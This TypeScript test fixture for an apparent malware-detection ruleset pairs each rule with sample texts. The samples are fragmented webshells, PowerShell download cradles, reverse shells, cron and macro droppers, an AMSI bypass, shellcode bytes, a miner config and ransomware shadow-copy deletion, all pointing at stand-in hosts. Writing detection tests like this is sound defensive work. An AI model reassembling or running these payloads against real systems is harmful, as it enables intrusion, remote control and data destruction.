import { whole } from './fragments.ts'

/** Harmless texts that match a rule: at least one for each rule, and one for each way in which a rule can match. */
export const attackSamples: Record<string, (string | Uint8Array)[]> = {
  Assay_Webshell_PHP_Eval: [
    whole('<?php @ev¦al($_PO¦ST["x"]);?>'),
    whole('GIF89a;\n<?php sys¦tem($_G¦ET["cmd"]); ?>'),
    whole('<?= shell_¦exec($_REQ¦UEST[0]) ?>'),
  ],
  Assay_Webshell_PHP_Variable: [
    whole('<?php\n$c = $_PO¦ST["x"];\n$o = shell_¦exec ($c);\necho $o;'),
    whole('<?php $c = $_GE¦T["x"]; call_user_¦func("sys¦tem", $c);'),
  ],
  Assay_Webshell_PHP_Hidden_Name: [
    whole('<?php $f = "sy¦s" . "te¦m"; $f($_GE¦T["x"]);'),
    whole('<?php $f = base64_decode("c3lz¦dGVt"); $f($_GE¦T["x"]);'),
  ],
  Assay_Webshell_PHP_Packed: [whole('<?php\n$x = 1;\nev¦al(gzin¦flate(base64_¦decode("S0ktLk4FAA==")));')],
  Assay_Webshell_PHP_Family: [
    whole("<?php $default_action = 'Files¦Man'; function ex($c) { passt¦hru($c); shell_¦exec($c); }"),
  ],
  Assay_Webshell_ASP_Eval: [
    whole('<%ev¦al requ¦est("x")%>'),
    whole('<%@ Page Language="Jscript"%><%ev¦al(Requ¦est.Item["x"],"unsafe");%>'),
  ],
  Assay_Webshell_ASPX_Command: [
    whole(
      '<%@ Page Language="C#"%><% var p = new Process¦StartInfo("cm¦d.exe", "/c " + Req¦uest.Form["c"]); p.Redirect¦StandardOutput = true; %>',
    ),
  ],
  Assay_Webshell_JSP_Command: [
    whole('<% Runtime.getRun¦time().exec(requ¦est.getParameter("x")); %>'),
    whole(
      '<%@ page import="java.io.*" %><% Process p = Runtime.getRun¦time().exec(c = requ¦est.getParameter("cmd")); p.getInput¦Stream(); %>',
    ),
  ],
  Assay_Webshell_JSP_ClassLoader: [
    whole(
      '<%@ page import="javax.cry¦pto.*" %><%! class U extends Class¦Loader { Class g(byte[] b) { return define¦Class(b, 0, 1); } } %><% request.get¦Reader().readLine() %>',
    ),
  ],
  Assay_Script_PowerShell_Cradle: [
    whole(
      'power¦shell.exe -no¦p -w hid¦den -c "IE¦X (New-Object Net.Web¦Client).Download¦String(\'http://127.0.0.1/a\')"',
    ),
  ],
  Assay_Script_PowerShell_Broken_Words: [
    whole("&('I'+¦'EX') (New-Object ('Net.We'+'bCl¦ient')).('Down'¦+'loadString')('http://127.0.0.1/a')"),
    whole('& ("{1}{0}" ¦-f "EX","I") $x'),
  ],
  Assay_Script_PowerShell_Unpacker: [
    whole(
      '$b = [Convert]::FromBase¦64String("AAAA"); $s = New-Object IO.Compression.Gzip¦Stream($m, 0); Invoke-Expre¦ssion $r.ReadToEnd()',
    ),
  ],
  Assay_Script_PowerShell_Encoded: ['', ' ', '  '].map((shift) =>
    whole('power¦shell -e ').concat(
      Buffer.from(
        whole(`${shift}(New-Object Net.Web¦Client).Download¦String("http://127.0.0.1/")`),
        'utf16le',
      ).toString('base64'),
    ),
  ),
  Assay_Script_PowerShell_Amsi: [
    whole("[Re¦f].Assembly.GetType('a').GetField('amsi¦InitFailed','NonPublic,Sta¦tic').SetVa¦lue($null,$true)"),
  ],
  Assay_Script_PowerShell_Shellcode: [
    whole(
      '[By¦te[]] $b = 1; $f = "kern¦el32"; $m = [x]::Virtual¦Alloc(0, 9, 0x30¦00, 0x4¦0); [Runtime.InteropServices.Mar¦shal]::Copy($b, 0, $m, 1); [x]::Create¦Thread(0)',
    ),
  ],
  Assay_Script_WScript_Dropper: [
    whole(
      'var s = new Active¦XObject("WScr¦ipt.Shell"); var g = new Active¦XObject("MSX¦ML2.XMLHTTP"); var o = new Active¦XObject("ADO¦DB.Stream"); o.Save¦ToFile(s.ExpandEnvironmentStrings("%TE¦MP%") + "/a.exe"); s.Ru¦n("a.exe");',
    ),
  ],
  Assay_Script_Command_Launcher: [
    whole(
      '<html><head><scr¦ipt language="VBScript">Create¦Object("WScr¦ipt.Shell").Ru¦n "power¦shell -w hid¦den -en¦c AAAA", 0\nwindow.clo¦se</script></head></html>',
    ),
  ],
  Assay_Script_Hidden_Words: [
    whole('Set s = Create¦Object(StrRev¦erse("lle¦hS.tpi¦rcSW"))\ns.Ru¦n "calc", 0\n'),
    whole('var s = new Active¦XObject("WScr"¦ + "ipt.She" + "ll"); s.Ru¦n("calc");'),
  ],
  Assay_Script_Batch_Dropper: [
    whole(
      '@ec¦ho off\r\ncert¦util -url¦cache -split -f http://127.0.0.1/a a.exe\r\nscht¦asks /create /tn a /tr a.exe\r\n',
    ),
  ],
  Assay_Script_Shell_Cron_Dropper: [
    whole(
      '#!/bin/sh\npki¦ll -f xm¦rig\necho "*/5 * * * * cu¦rl -fsSL http://127.0.0.1/a|sh" | cron¦tab -\ncu¦rl -s http://127.0.0.1/a | ba¦sh\n',
    ),
  ],
  Assay_Script_Shell_Bot_Dropper: [
    whole(
      '#!/bin/sh\ncd /tmp || cd /var¦/run || cd /mnt || cd /ro¦ot || cd /\nwg¦et http://127.0.0.1/b.mi¦ps; chm¦od 777 b.mips; ./b.mips\nwg¦et http://127.0.0.1/b.ar¦m7; ./b.arm7\n',
    ),
  ],
  Assay_Script_ReverseShell_Bash: [
    whole('ba¦sh -i >& /de¦v/tcp/127.0.0.1/4444 0>&¦1\n'),
    whole('#!/bin/bash\n# maintenance\nba¦sh -i >& /de¦v/tcp/127.0.0.1/4444 0>&¦1\n'),
  ],
  Assay_Script_ReverseShell_Netcat: [
    whole('n¦c -e /bi¦n/sh 127.0.0.1 4444\n'),
    whole("so¦cat TCP:127.0.0.1:4444 EX¦EC:'bash -li',pty\n"),
    whole('rm /tmp/f;mkf¦ifo /tmp/f;cat /tmp/f|/bin/s¦h -i 2>&1|n¦c 127.0.0.1 4444 >/tmp/f\n'),
  ],
  Assay_Script_ReverseShell_Python: [
    whole(
      'import socket,os,pty;s=socket.soc¦ket();s.conn¦ect(("127.0.0.1",4444));os.du¦p2(s.fileno(),0);os.du¦p2(s.fileno(),1);pty.sp¦awn("/bin/sh")',
    ),
  ],
  Assay_Script_ReverseShell_Perl_Ruby: [
    whole(
      'require "socket"; c = TCPSo¦cket.new("127.0.0.1", 4444); while l = c.ge¦ts; IO.po¦pen(l) { |o| c.print o.read }; end',
    ),
    whole(
      'use Soc¦ket;socket(S,PF_INET,SOCK_STREAM,getproto¦byname("tcp"));open(STD¦IN,">&S");open(STD¦OUT,">&S");exec("/bin/s¦h -i");',
    ),
  ],
  Assay_Script_ReverseShell_Program: [
    whole(
      'const n = require("net"), p = require("child_¦process").spawn("/bin/s¦h"); const c = new n.Socket(); c.conn¦ect(4444, "127.0.0.1", () => c.pi¦pe(p.stdin))',
    ),
  ],
  Assay_Script_ReverseShell_PHP: [
    whole('<?php $s=fsock¦open("127.0.0.1",4444);$p=proc_¦open("/bin/s¦h -i",[],$q);stream_¦select($a,$b,$c,1);'),
  ],
  Assay_Script_ReverseShell_PowerShell: [
    whole(
      "$c = New-Object System.Net.Soc¦kets.TCPClient('127.0.0.1',4444);$s = $c.Get¦Stream();$o = (ie¦x $da¦ta 2>&1 | Out-Str¦ing);$s.Flu¦sh()",
    ),
  ],
  Assay_Script_Python_Packed: [
    whole("import os\nex¦ec(__imp¦ort__('zlib').decom¦press(__import__('base64').b64decode('eJwDAAAAAAE=')))"),
  ],
  Assay_Miner_Config: [
    whole(
      '{ "algo": "rx/0", "donate-¦level": 1, "pool¦s": [{ "url": "strat¦um+tcp://127.0.0.1:3333", "user": "x", "keepalive": true }] }',
    ),
  ],
  Assay_Miner_Script: [whole('#!/bin/sh\nno¦hup ./xm¦rig -o strat¦um+tcp://127.0.0.1:3333 -u x >/dev/null 2>&1 &\n')],
  Assay_Ransom_Note: [
    whole(
      'ALL YOUR FI¦LES HAVE BEEN ENCRYPTED!\nDo not ren¦ame them. Install Tor Brow¦ser, open http://example.on¦ion and pay 1 bit¦coin within 72 hours.\n',
    ),
  ],
  Assay_Macro_Downloader: [
    whole(
      'Attribute VB_Name = "M"\r\nSub Auto¦Open()\r\nURLDown¦loadToFile 0, "http://127.0.0.1/a", "a.exe", 0, 0\r\nCreate¦Object("WScr¦ipt.Shell").Run "a.exe"\r\nEnd Sub\r\n',
    ),
  ],
  Assay_Macro_Command: [
    whole(
      'Attribute VB_Name = "M"\r\nPrivate Sub Docu¦ment_Open()\r\nSh¦ell "power¦shell -no¦p -en¦c AAAA", vbHi¦de\r\nEnd Sub\r\n',
    ),
  ],
  Assay_Macro_Hidden_Words: [
    whole(
      'Attribute VB_Name = "M"\r\nSub Auto¦Open()\r\nSet s = Create¦Object(StrRev¦erse("lle¦hS.tpi¦rcSW"))\r\ns.Ru¦n x\r\nEnd Sub\r\n',
    ),
  ],
  Assay_Macro_Shellcode: [
    whole(
      'Attribute VB_Name = "M"\r\nPrivate Decl¦are PtrSafe Function Virtual¦Alloc Lib "kernel32"\r\nRtlMove¦Memory\r\nCreate¦Thread\r\n',
    ),
  ],
  Assay_Document_DDE_Command: [
    whole(
      '<?xml version="1.0"?><w:document><w:instr¦Text>DDE¦AUTO c:\\\\windows\\\\system32\\\\cm¦d.exe "/k calc"</w:instrText></w:document>',
    ),
  ],
  Assay_Document_RTF_Equation: [
    whole('{\\rtf1{\\object\\objemb\\obj¦update{\\*\\objdata 0105000002000000457175¦6174696f6e2e3300}}}'),
  ],
  Assay_Document_Msdt_Link: [
    whole(
      '<html><scr¦ipt>window.loca¦tion.href = "ms-ms¦dt:/id PCWDiagnostic /param IT_Browse¦ForFile=x";</script></html>',
    ),
  ],
  Assay_Shortcut_Loader: [
    Buffer.concat([
      Buffer.from('4c0000000114020000000000c000000000000046', 'hex'),
      Buffer.alloc(56),
      Buffer.from(whole('..\\Power¦Shell.exe -windowst¦yle hidden'), 'utf16le'),
    ]),
  ],
  Assay_Shellcode_Api_Resolver: [
    Buffer.concat([
      Buffer.alloc(99, 1),
      Buffer.from(whole('fc4883e4f0e8c0¦0000004151415052¦5156¦4831d265488b5260'), 'hex'),
    ]),
    Buffer.concat([Buffer.alloc(99, 1), Buffer.from(whole('fce882¦0000006089e531c0¦648b50308b520c¦8b5214'), 'hex')]),
    whole('unsigned char b[] = { 0xfc,0x48,¦0x83,0xe4,0xf0,0xe8,0xc0 }; Virtual¦Alloc(0, 9, 1, 2);'),
  ],
  Assay_Loader_Reflective: [program('MZ', '\0Reflective¦Loader\0')],
  Assay_Tool_Beacon: [program('MZ', 'bea¦con.x64.dll\0could not spa¦wn %s: %d\0')],
  Assay_Tool_Mimikatz: [program('MZ', 'gentil¦kiwi\0mimi¦katz\0sekur¦lsa::x\0')],
  Assay_Bot_Gafgyt: [program('\x7fELF', 'KILL¦ATTK\0PO¦NG!\0')],
  Assay_Miner_Program: [program('\x7fELF', 'strat¦um+tcp://\0donate-¦level\0random¦x\0xm¦rig\0')],
  Assay_Ransom_Recovery_Removal: [
    whole(
      '@ec¦ho off\r\nvssad¦min delete shad¦ows /all /quiet\r\nwbad¦min delete catalog -quiet\r\nbcdedit /set {default} recovery¦enabled no\r\n',
    ),
  ],
}

/** The first bytes of a program, followed by words. */
function program(magic: string, words: string): Uint8Array {
  return Buffer.from(`${magic}${'\x01'.repeat(200)}${whole(words)}${'\x02'.repeat(200)}`, 'latin1')
}
